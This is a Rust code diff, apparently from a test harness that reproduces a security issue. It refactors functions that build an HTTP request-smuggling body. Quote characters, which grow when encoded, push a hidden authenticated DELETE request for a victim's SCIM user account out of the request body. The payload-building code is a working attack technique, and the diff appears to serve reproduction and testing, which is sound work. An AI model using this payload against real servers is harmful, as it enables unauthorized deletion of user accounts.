@@ -36,15 +36,25 @@ impl Target {
         Connection::to(&self.authority())
     }
 
-    /// The attack of the issue: a line that begins like a request and grows when its quotes are encoded. The bytes it
-    /// gains push the request behind it out of the body.
+    pub(crate) fn victim_path(&self) -> String {
+        format!("/scim/v2/Users/{}", self.victim)
+    }
+
+    /// A body that hides a request which deletes the victim.
     pub(crate) fn smuggling_body(&self) -> String {
-        let hidden = format!(
-            "DELETE /scim/v2/Users/{} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\n\r\n",
-            self.victim
-        );
-        let hidden = format!("{}{hidden}", "\r\n".repeat(hidden.len() % 2));
-        format!("GET /{}\n{hidden}", "\"".repeat(hidden.len().div_ceil(2)))
+        let path = self.victim_path();
+        Self::body_around(
+            &format!("DELETE {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\n\r\n"),
+            0,
+        )
+    }
+
+    /// A body that begins like a request and grows when its quotes are encoded. The bytes that it gains push the hidden
+    /// request out of it. With padding it is too long to come together with its head.
+    pub(crate) fn body_around(hidden: &str, padding: usize) -> String {
+        // Each quote gains two bytes. An empty line before a request is skipped, so half of a pair more does no harm.
+        let hidden = format!("{}{hidden}", "\n".repeat(hidden.len() % 2));
+        format!("GET /{}{}\n{hidden}", "a".repeat(padding), "\"".repeat(hidden.len() / 2))
     }
 
     #[track_caller]
